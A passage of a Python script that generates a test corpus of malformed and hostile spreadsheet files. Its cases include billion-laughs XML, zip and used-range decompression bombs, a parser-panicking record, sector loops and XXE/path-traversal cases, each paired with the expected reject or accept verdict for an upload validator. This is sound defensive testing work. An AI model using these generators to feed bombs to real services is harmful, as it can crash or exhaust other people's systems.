    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\x00" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 0x1000, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
              + struct.pack("<I", 0) + struct.pack("<I", 0xFFFFFFFF) * 108)

    def entry(label: str, kind: int, child: int, start: int, length: int) -> bytes:
        raw = (label + "\x00").encode("utf-16-le")
        return (raw + b"\x00" * (64 - len(raw)) + struct.pack("<HBB", len(raw), kind, 1)
                + struct.pack("<III", 0xFFFFFFFF, 0xFFFFFFFF, child) + b"\x00" * 36 + struct.pack("<II", start, length)
                + b"\x00" * 4)
    unused = b"\x00" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", *(0xFFFFFFFF,) * 3) + b"\x00" * 48
    directory = entry("Root Entry", 5, 1, 0xFFFFFFFE, 0) + entry(name, 2, 0xFFFFFFFF, 2, len(stream)) + unused * 2
    return header + struct.pack("<128I", *fat) + directory + stream


def xls_used_range_bomb() -> bytes:
    """Two numbers, at A1 and IV65536: calamine would lay out all 16,777,216 cells between them (≈1 GB)."""
    return _compound_file(_xls_workbook_stream([(0, 0, 1.0), (65535, 255, 2.0)]))


def xls_small_numbers() -> bytes:
    """A well-formed .xls with a few numbers and no table (the BIFF writer's control case)."""
    return _compound_file(_xls_workbook_stream([(0, 0, 1.0), (2, 3, 5.0)]))


def xls_filepass() -> bytes:
    """An .xls whose globals carry FILEPASS (RC4 'password to open'): an encrypted workbook."""
    return _compound_file(_xls_workbook_stream([(0, 0, 1.0)], filepass=True))


def xls_empty_merge_record() -> bytes:
    """An .xls whose MERGEDCELLS record is empty: calamine 0.37 panics (a Rust panic, not an error) on it."""
    return _compound_file(_xls_workbook_stream([(0, 0, 1.0)], extra=_biff(0x00E5, b"")))


def xls_sector_loop() -> bytes:
    """A compound file whose stream's sector chain loops back on itself."""
    return _compound_file(_xls_workbook_stream([(r, 0, float(r)) for r in range(400)]), loop=True)


def ods_far_apart_cells() -> bytes:
    """Two values, at A1 and at column 16,384 of row 6,000 (empty repeats between): a 98-million-cell range."""
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
               '<table:table table:name="BaoCao">'
               '<table:table-row><table:table-cell office:value-type="float" office:value="1"><text:p>1</text:p>'
               '</table:table-cell></table:table-row>'
               '<table:table-row table:number-rows-repeated="5998"><table:table-cell/></table:table-row>'
               '<table:table-row><table:table-cell table:number-columns-repeated="16383"/>'
               '<table:table-cell office:value-type="float" office:value="2"><text:p>2</text:p></table:table-cell>'
               '</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>')
    return _ods(content)


def ods_billion_laughs() -> bytes:
    content = (_LAUGHS + '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
               '<table:table table:name="BaoCao"><table:table-row><table:table-cell office:value-type="string">'
               '<text:p>&lol9;</text:p></table:table-cell></table:table-row></table:table>'
               '</office:spreadsheet></office:body></office:document-content>')
    return _ods(content)


def ods_repeated_cells() -> bytes:
    """A 'valid' ODS whose one non-empty cell is repeated over 16,384 columns × 1,048,576 rows."""
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
               '<table:table table:name="BaoCao"><table:table-row table:number-rows-repeated="1048576">'
               '<table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1">'
               '<text:p>1</text:p></table:table-cell></table:table-row></table:table>'
               '</office:spreadsheet></office:body></office:document-content>')
    return _ods(content)


def _ods(content: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("META-INF/manifest.xml",
                    '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                    'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                    '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                    '</manifest:manifest>', zipfile.ZIP_DEFLATED)
        zf.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


# --- big files, built at test time ------------------------------------------------------------

def _crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """zlib's crc32_combine: the CRC of A+B from CRC(A), CRC(B) and len(B)."""
    def times(mat, vec):
        s, i = 0, 0
        while vec:
            if vec & 1:
                s ^= mat[i]
            vec >>= 1
            i += 1
        return s

    def square(mat):
        return [times(mat, mat[n]) for n in range(32)]

    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = square(odd)
    odd = square(even)
    while True:
        even = square(odd)
        if len2 & 1:
            crc1 = times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = square(even)
        if len2 & 1:
            crc1 = times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def _crc32_repeat(chunk: bytes, times: int) -> int:
    crc, length = 0, 0
    p_crc, p_len = zlib.crc32(chunk), len(chunk)
    while times:
        if times & 1:
            crc, length = _crc32_combine(crc, p_crc, p_len), length + p_len
        p_crc, p_len = _crc32_combine(p_crc, p_crc, p_len), p_len * 2
        times >>= 1
    return crc


@dataclass
class _Member:
    name: str
    crc: int
    csize: int
    usize: int
    chunks: Callable[[], Iterator[bytes]]  # the compressed bytes
    offset: int = 0


def _deflated(name: str, data: bytes) -> _Member:
    co = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = co.compress(data) + co.flush()
    return _Member(name, zlib.crc32(data), len(packed), len(data), lambda: iter([packed]))


def _write_zip(path: Path, entries: list[_Member]) -> None:
    """A zip archive written by hand so that a member may declare (and be) 4 GiB without existing."""
    with open(path, "wb") as out:
        for m in entries:
            m.offset = out.tell()
            big = m.usize >= 0xFFFFFFFF or m.csize >= 0xFFFFFFFF
            extra = struct.pack("<HHQQ", 1, 16, m.usize, m.csize) if big else b""
            name = m.name.encode()
            out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 45 if big else 20, 0x800, 8, 0, 0x5021, m.crc,
                                  0xFFFFFFFF if big else m.csize, 0xFFFFFFFF if big else m.usize,
                                  len(name), len(extra)) + name + extra)
            for chunk in m.chunks():
                out.write(chunk)
        cd_start = out.tell()
        for m in entries:
            big = m.usize >= 0xFFFFFFFF or m.csize >= 0xFFFFFFFF
            extra = struct.pack("<HHQQ", 1, 16, m.usize, m.csize) if big else b""
            name = m.name.encode()
            out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45 if big else 20, 0x800, 8, 0, 0x5021, m.crc,
                                  0xFFFFFFFF if big else m.csize, 0xFFFFFFFF if big else m.usize,
                                  len(name), len(extra), 0, 0, 0, 0, m.offset) + name + extra)
        cd_size = out.tell() - cd_start
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), cd_size, cd_start, 0))


def sheet_4gib(path: Path, declared: int | None = None, total: int = 4 * GIB) -> int:
    """A valid return whose sheet XML is 4 GiB (``total``) of empty rows, deflated to a few MB.

    The deflate stream is one compressed block (after a full flush, so independent of what came
    before) repeated; its CRC is combined arithmetically. Returns the true inflated size.
    ``declared`` writes a false (smaller) size into the archive instead of the true one."""
    base = valid_return()
    parts = members(base)
    xml = parts[SHEET]
    head, tail = xml.split(b"</sheetData>", 1)
    tail = b"</sheetData>" + tail
    chunk = b"<row/>" * (1 << 17)  # 768 KiB of empty rows
    reps = -(-total // len(chunk))
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    c_head = co.compress(head) + co.flush(zlib.Z_FULL_FLUSH)
    c_chunk = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
    assert co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH) == c_chunk  # a block is independent of history
    c_tail = co.compress(tail) + co.flush()
    usize = len(head) + reps * len(chunk) + len(tail)
    crc = _crc32_combine(_crc32_combine(zlib.crc32(head), _crc32_repeat(chunk, reps), reps * len(chunk)),
                         zlib.crc32(tail), len(tail))
    csize = len(c_head) + reps * len(c_chunk) + len(c_tail)

    def stream() -> Iterator[bytes]:
        yield c_head
        for _ in range(reps):
            yield c_chunk
        yield c_tail

    entries = [_deflated(n, b) for n, b in parts.items() if n != SHEET]
    entries.insert(3, _Member(SHEET, crc, csize, declared if declared is not None else usize, stream))
    _write_zip(path, entries)
    return usize


def _deflated_info(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED  # a bare ZipInfo would be stored
    return info


def _streamed_sheet(path: Path, rows: Callable[[], Iterator[bytes]]) -> None:
    """The valid return with rows streamed into its sheet after the form, never all in memory."""
    base = valid_return()
    parts = members(base)
    head, tail = parts[SHEET].split(b"</sheetData>", 1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as zf:
        for name, body in parts.items():
            if name != SHEET:
                zf.writestr(name, body)
                continue
            with zf.open(_deflated_info(name), "w", force_zip64=True) as fh:
                fh.write(head)
                buf = []
                size = 0
                for row in rows():
                    buf.append(row)
                    size += len(row)
                    if size > 1 << 20:
                        fh.write(b"".join(buf))
                        buf, size = [], 0
                fh.write(b"".join(buf))
                fh.write(b"</sheetData>" + tail)


def rows_1048576(path: Path) -> None:
    """The form, then a number in column A of every row down to the last one Excel has (1,048,576)."""
    def rows() -> Iterator[bytes]:
        for r in range(25, 1048577):
            yield b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (r, r, r % 10)
    _streamed_sheet(path, rows)


def columns_16384(path: Path) -> None:
    """The form, then 100 rows filled across every column Excel has (A … XFD)."""
    cols = [_col(c).encode() for c in range(1, 16385)]

    def rows() -> Iterator[bytes]:
        for r in range(25, 125):
            rb = b"%d" % r
            yield b'<row r="' + rb + b'">' + b"".join(b'<c r="' + c + rb + b'"><v>7</v></c>' for c in cols) + b"</row>"
    _streamed_sheet(path, rows)


def one_row_16384_wide(path: Path) -> None:
    """The form, with one row below it filled across every column (A … XFD): a sheet 16,384 columns wide."""
    cols = [_col(c).encode() for c in range(1, 16385)]

    def rows() -> Iterator[bytes]:
        yield b'<row r="30">' + b"".join(b'<c r="' + c + b'30"><v>7</v></c>' for c in cols) + b"</row>"
    _streamed_sheet(path, rows)


def wide_form_rows_16384(path: Path) -> None:
    """The form's own first rows each carrying cells out to column XFD (the reader must still find the table)."""
    base = valid_return()
    parts = members(base)
    xml = parts[SHEET].decode()
    filler = "".join(f'<c r="{_col(c)}{{r}}"><v>1</v></c>' for c in range(200, 16385))

    def widen(m: re.Match) -> str:
        r = m.group(1)
        return m.group(0).replace("</row>", filler.replace("{r}", r) + "</row>") if int(r) <= 30 else m.group(0)
    xml = re.sub(r'<row r="(\d+)".*?</row>', widen, xml, flags=re.S)
    xml = sub(xml, '<dimension ref="A1:H22" />', '<dimension ref="A1:XFD22" />')
    path.write_bytes(rezip(base, {SHEET: xml.encode()}))


def style_bloat(path: Path) -> None:
    """A valid return whose styles.xml carries Excel's maximum of 64,000 cell formats, 64,000 style formats
    and 64,000 named styles — the 'style bloat' of forms copied between old workbooks for years."""
    base = valid_return()
    styles = members(base)["xl/styles.xml"].decode()
    xf = ('<xf numFmtId="{n}" fontId="1" fillId="0" borderId="1" applyNumberFormat="1" applyAlignment="1" '
          'xfId="0"><alignment vertical="center" wrapText="1"/><protection locked="0"/></xf>')
    extra_xfs = "".join(xf.format(n=(164 + i % 40)) for i in range(64_000))
    styles = re.sub(r'<cellXfs count="(\d+)"', lambda m: f'<cellXfs count="{int(m.group(1)) + 64_000}"', styles)
    styles = sub(styles, "</cellXfs>", extra_xfs + "</cellXfs>")
    styles = re.sub(r'<cellStyleXfs count="(\d+)">', lambda m: f'<cellStyleXfs count="{int(m.group(1)) + 64_000}">', styles)
    styles = sub(styles, "</cellStyleXfs>", extra_xfs + "</cellStyleXfs>")
    fmts = "".join(f'<numFmt numFmtId="{164 + i}" formatCode="#,##0.{"0" * (i % 5)}_);[Red]\\(#,##0\\)"/>' for i in range(40))
    styles = re.sub(r'<numFmts count="0" ?/>', f'<numFmts count="40">{fmts}</numFmts>', styles)
    named = "".join(f'<cellStyle name="Normal {i}" xfId="0"/>' for i in range(64_000))
    if "<cellStyles" in styles:
        styles = re.sub(r"<cellStyles[^>]*>", f'<cellStyles count="{64_001}">', styles, count=1)
        styles = sub(styles, "</cellStyles>", named + "</cellStyles>")
    else:
        styles = sub(styles, "</cellXfs>", f'</cellXfs><cellStyles count="64000">{named}</cellStyles>')
    path.write_bytes(rezip(base, {"xl/styles.xml": styles.encode()}))


def over_size_limit(path: Path) -> None:
    """A valid return carrying an 11 MB photo (incompressible, stored): over the 10 MB limit as sent."""
    import random

    photo = random.Random(11).randbytes(11 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in members(valid_return()).items():
            zf.writestr(_deflated_info(name), body)
        info = zipfile.ZipInfo("xl/media/image1.jpeg", (2024, 1, 1, 0, 0, 0))
        zf.writestr(info, b"\xff\xd8\xff\xe0" + photo)  # ZipInfo's default: stored, as JPEGs are


def shared_strings_flood(path: Path) -> None:
    """A 48 MB sharedStrings part (two million distinct strings) packed into a file under the size limit."""
    base = valid_return()
    parts = members(base)
    rels = sub(parts["xl/_rels/workbook.xml.rels"].decode(),
        "</Relationships>",
        '<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    n = 2_000_000
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, body in parts.items():
            zf.writestr(name, rels.encode() if name == "xl/_rels/workbook.xml.rels" else body)
        with zf.open(_deflated_info("xl/sharedStrings.xml"), "w", force_zip64=True) as fh:
            fh.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">'
                     % (n, n))
            for start in range(0, n, 50_000):
                fh.write(b"".join(b"<si><t>s%07d</t></si>" % i for i in range(start, start + 50_000)))
            fh.write(b"</sst>")


def merges_flood(path: Path, table: bool = True) -> None:
    """The form, then rows 31-500 of merged cell pairs, each with a value (14,100 ranges, a legal sheet),
    the empty top-right of the form merged in pairs, and 200,000 more ranges further down. Without
    ``table`` the form's header is spoilt, so that every row is searched for one."""
    base = valid_return()
    xml = sheet_xml(base)
    if not table:
        xml = sub(xml, "<t>Tổng số</t>", "<t>Tong</t>")
    head, tail = xml.split("</sheetData>", 1)
    rows = []
    merges = ["A4:H4", "A3:H3"]
    for r in range(31, 501):
        cells = "".join(f'<c r="{_col(c)}{r}" t="inlineStr"><is><t>x</t></is></c>' for c in range(1, 61, 2))
        rows.append(f'<row r="{r}">{cells}</row>')
        merges += [f"{_col(c)}{r}:{_col(c + 1)}{r}" for c in range(1, 61, 2)]
    for r in range(1, 31):
        merges += [f"{_col(c)}{r}:{_col(c + 1)}{r}" for c in range(9, 61, 2)]
    merges += [f"A{r}:B{r}" for r in range(600, 200_600)]
    before, merged = tail.split("<mergeCells", 1)
    after = merged.split("</mergeCells>", 1)[1]
    body = (head + "".join(rows) + "</sheetData>" + before + '<mergeCells count="%d">' % len(merges)
            + "".join(f'<mergeCell ref="{m}"/>' for m in merges) + "</mergeCells>" + after)
    path.write_bytes(rezip(base, {SHEET: body.encode()}))


def read_area_full(path: Path) -> None:
    """The form, then every cell of rows 25-500, columns A-BH (the whole area a return is read from) filled
    with text — 28,560 cells a reader must handle without any step growing with rows × cells."""
    def rows() -> Iterator[bytes]:
        for r in range(25, 501):
            yield (f'<row r="{r}">' + "".join(f'<c r="{_col(c)}{r}" t="inlineStr"><is><t>ô {c}</t></is></c>'
                                              for c in range(1, 61)) + "</row>").encode()
    _streamed_sheet(path, rows)


def overlapping_merges(path: Path) -> None:
    """Every cell of the read area the top-left of a merged range, each overlapping the next (never legal)."""
    base = valid_return()
    xml = sheet_xml(base)
    merges = [f"{_col(c)}{r}:{_col(c + 1)}{r + 1}" for r in range(1, 500) for c in range(1, 60)]
    before, merged = xml.split("<mergeCells", 1)
    after = merged.split("</mergeCells>", 1)[1]
    body = (before + '<mergeCells count="%d">' % len(merges) + "".join(f'<mergeCell ref="{m}"/>' for m in merges)
            + "</mergeCells>" + after)
    path.write_bytes(rezip(base, {SHEET: body.encode()}))


# --- the corpus ---------------------------------------------------------------------------

REJ, ACC = "rejected", "accepted"

CASES: list[Case] = [
    # broken archives
    Case("truncated-archive", "truncated-archive.xlsx", REJ, ("file-type",), _lazy(truncated_archive)),
    Case("truncated-after-magic", "truncated-after-magic.xlsx", REJ, ("file-type",), _lazy(truncated_after_magic)),
    Case("corrupt-deflate-stream", "corrupt-deflate-stream.xlsx", REJ, ("file-type",), _lazy(corrupt_deflate_stream)),
    Case("corrupt-crc", "corrupt-crc.xlsx", REJ, ("file-type",), _lazy(corrupt_crc)),
    Case("corrupt-central-directory", "corrupt-central-directory.xlsx", REJ, ("file-type",), _lazy(corrupt_central_directory)),
    Case("zip-not-a-workbook", "zip-not-a-workbook.xlsx", REJ, ("file-type",), _lazy(zip_not_a_workbook)),
    Case("ole-garbage-xls", "ole-garbage.xls", REJ, ("file-type",), _lazy(ole_garbage_xls)),
    # parser attacks
    Case("billion-laughs-in-sheet", "billion-laughs-sheet.xlsx", REJ, ("file-type",), _lazy(billion_laughs_sheet)),
    Case("billion-laughs-in-shared-strings", "billion-laughs-shared-strings.xlsx", REJ, ("file-type",),
         _lazy(billion_laughs_shared_strings)),
    Case("billion-laughs-in-workbook-part", "billion-laughs-workbook.xlsx", REJ, ("file-type",),
         _lazy(billion_laughs_workbook_part)),
    Case("quadratic-entity-blowup", "quadratic-blowup.xlsx", REJ, ("file-type",), _lazy(quadratic_blowup)),
    Case("external-entity-xxe", "external-entity.xlsx", REJ, ("file-type",), _lazy(external_entity)),
    Case("illegal-xml-control-char", "illegal-xml-char.xlsx", REJ, ("file-type",), _lazy(illegal_xml_control_char)),
    Case("billion-laughs-in-ods", "billion-laughs.ods", REJ, ("file-type",), _lazy(ods_billion_laughs)),
    Case("ods-repeated-cells-bomb", "repeated-cells.ods", REJ, ("file-too-large",), _lazy(ods_repeated_cells)),
    Case("ods-far-apart-cells", "far-apart-cells.ods", REJ, ("file-too-large",), _lazy(ods_far_apart_cells)),
    Case("xls-used-range-bomb", "used-range-bomb.xls", REJ, ("file-too-large",), _lazy(xls_used_range_bomb)),
    Case("xls-numbers-without-table", "numbers-only.xls", REJ, ("no-table",), _lazy(xls_small_numbers)),
    Case("xls-filepass-encrypted", "filepass.xls", REJ, ("file-encrypted",), _lazy(xls_filepass)),
    Case("xls-calamine-panic-empty-merge-record", "empty-merge-record.xls", REJ, ("file-type",),
         _lazy(xls_empty_merge_record)),
    Case("xls-sector-chain-loop", "sector-loop.xls", REJ, ("no-table",), _lazy(xls_sector_loop)),
    Case("unsupported-compression-method", "deflate64.xlsx", REJ, ("file-type",), _lazy(unsupported_compression)),
    # not a spreadsheet
    Case("encrypted-workbook", "encrypted.xlsx", REJ, ("file-encrypted",), _lazy(encrypted_workbook)),
    Case("docx-renamed-xlsx", "word-document.xlsx", REJ, ("file-type",), _lazy(docx_renamed)),
    Case("pdf-renamed-xlsx", "pdf-document.xlsx", REJ, ("file-type",), _lazy(pdf_renamed)),
    Case("csv-renamed-xlsx", "comma-separated.xlsx", REJ, ("file-type",), _lazy(csv_renamed)),
    Case("html-renamed-xls", "web-page.xls", REJ, ("file-type",), _lazy(html_renamed)),
    Case("spreadsheetml-billion-laughs", "spreadsheetml-billion-laughs.xls", REJ, ("file-type",),
         _lazy(spreadsheetml_billion_laughs)),
    Case("spreadsheetml-rows-flood", "spreadsheetml-rows-flood.xls", REJ, ("file-too-large",), spreadsheetml_rows_flood,
         big=True),
    Case("spreadsheetml-far-index", "spreadsheetml-far-index.xls", REJ, ("no-table",), _lazy(spreadsheetml_far_index)),
    Case("empty-file", "empty.xlsx", REJ, ("file-type",), _write(b"")),
    # odd sheets
    Case("only-merged-cells", "only-merged-cells.xlsx", REJ, ("no-table",), _lazy(only_merged_cells)),
    Case("string-32767-in-district", "long-district-name.xlsx", REJ, ("unit-unknown",), _lazy(long_string_district)),
    Case("string-32767-in-province", "long-province-name.xlsx", REJ, ("unit-unknown",), _lazy(long_string_province)),
    Case("string-32767-in-count", "long-count.xlsx", REJ, ("value-not-number",), _lazy(long_string_count)),
    Case("string-32767-in-period", "long-period.xlsx", REJ, ("period-invalid",), _lazy(long_string_period)),
    Case("string-32767-in-every-label", "long-strings-everywhere.xlsx", ACC, (), _lazy(long_string_everywhere)),
    Case("control-chars-in-names", "control-chars.xlsx", REJ, ("unit-unknown",), _lazy(control_chars_in_names)),
    Case("rtl-text-in-names", "rtl-names.xlsx", REJ, ("unit-unknown",), _lazy(rtl_text_in_names)),
    Case("bidi-marks-around-names", "bidi-marks.xlsx", ACC, (), _lazy(bidi_marks_around_names)),
    Case("rtl-sheet-name", "rtl-sheet-name.xlsx", ACC, (), _lazy(rtl_sheet_name)),
    Case("external-workbook-formulas", "external-formulas.xlsx", ACC, (), _lazy(external_formulas_with_saved_values)),
    Case("external-workbook-formulas-no-value", "external-formulas-no-value.xlsx", REJ, ("formula-no-value",),
         _lazy(external_formulas_without_values)),
    Case("webservice-formula", "webservice-formula.xlsx", ACC, (), _lazy(webservice_formula)),
    Case("macro-vba-project", "macro.xlsm", ACC, (), _lazy(macro_workbook)),
    Case("live-formulas-and-links", "live-formulas.xlsx", REJ, ("value-not-number",), _lazy(live_formulas_and_links)),
    Case("markup-in-text", "markup-in-text.xlsx", REJ, ("unit-unknown",), _lazy(markup_in_text)),
    Case("path-traversal-member-names", "path-traversal.xlsx", ACC, (), _lazy(path_traversal_member)),
    Case("dangling-sheet-relationship", "dangling-sheet.xlsx", REJ, ("no-table",), _lazy(dangling_sheet_relationship)),
    # numbers
    Case("number-1e308", "number-1e308.xlsx", REJ, ("value-not-number",), _lazy(number_1e308)),
    Case("number-overflow-infinity", "number-infinity.xlsx", REJ, ("value-not-number",), _lazy(number_overflow_to_infinity)),
    Case("number-nan", "number-nan.xlsx", REJ, ("value-not-number",), _lazy(number_nan)),
    Case("number-text-nan-infinity", "number-text-nan.xlsx", REJ, ("value-not-number",), _lazy(number_text_nan_infinity)),
    Case("number-negative-zero", "number-negative-zero.xlsx", ACC, (), _lazy(number_negative_zero)),
    Case("number-huge-integer", "number-huge-integer.xlsx", REJ, ("value-not-number",), _lazy(number_huge_integer_text)),
    Case("dates-where-counts-belong", "dates-as-counts.xlsx", REJ, ("value-not-number",), _lazy(dates_where_counts_belong)),
    # big: built at test time
    Case("style-bloat-64000-formats", "style-bloat.xlsx", ACC, (), style_bloat, big=True),
    Case("file-over-10-mb", "over-10-mb.xlsx", REJ, ("file-too-large",), over_size_limit, big=True),
    Case("sheet-declares-4gib", "sheet-4gib.xlsx", REJ, ("file-too-large",), lambda p: sheet_4gib(p), big=True),
    Case("sheet-4gib-declares-small", "sheet-4gib-lying.xlsx", REJ, ("file-type",),
         lambda p: sheet_4gib(p, declared=9 << 20), big=True),
    Case("rows-1048576", "rows-1048576.xlsx", ACC, (), rows_1048576, big=True),
    Case("columns-16384-one-row", "one-row-16384-wide.xlsx", ACC, (), one_row_16384_wide, big=True),
    Case("columns-16384-by-100-rows", "columns-16384.xlsx", REJ, ("file-too-large",), columns_16384, big=True),
    Case("form-rows-16384-wide", "form-16384-wide.xlsx", REJ, ("file-too-large",), wide_form_rows_16384, big=True),
    Case("shared-strings-flood", "shared-strings-flood.xlsx", REJ, ("file-too-large",), shared_strings_flood, big=True),
    Case("merged-ranges-flood", "merges-flood.xlsx", ACC, (), merges_flood, big=True),
    Case("merged-ranges-flood-no-table", "merges-flood-no-table.xlsx", REJ, ("no-table",),
         lambda p: merges_flood(p, table=False), big=True),
    Case("read-area-full-of-text", "read-area-full.xlsx", ACC, (), read_area_full, big=True),
    Case("empty-cells-below-the-table", "empty-cells-below.xlsx", REJ, ("value-not-number",),
         empty_cells_below_the_table, big=True),
    Case("overlapping-merged-ranges", "overlapping-merges.xlsx", REJ, ("file-type",), overlapping_merges, big=True),
]


if __name__ == "__main__":
    # Only missing files are written (the committed ones stay byte-identical); --force rewrites all.
    force = "--force" in sys.argv[1:]
    FILES.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        path = FILES / case.filename
        if case.big or (path.exists() and not force):
            continue
        case.build(path)
        print(f"{path.stat().st_size:>10}  {path.relative_to(ROOT)}")
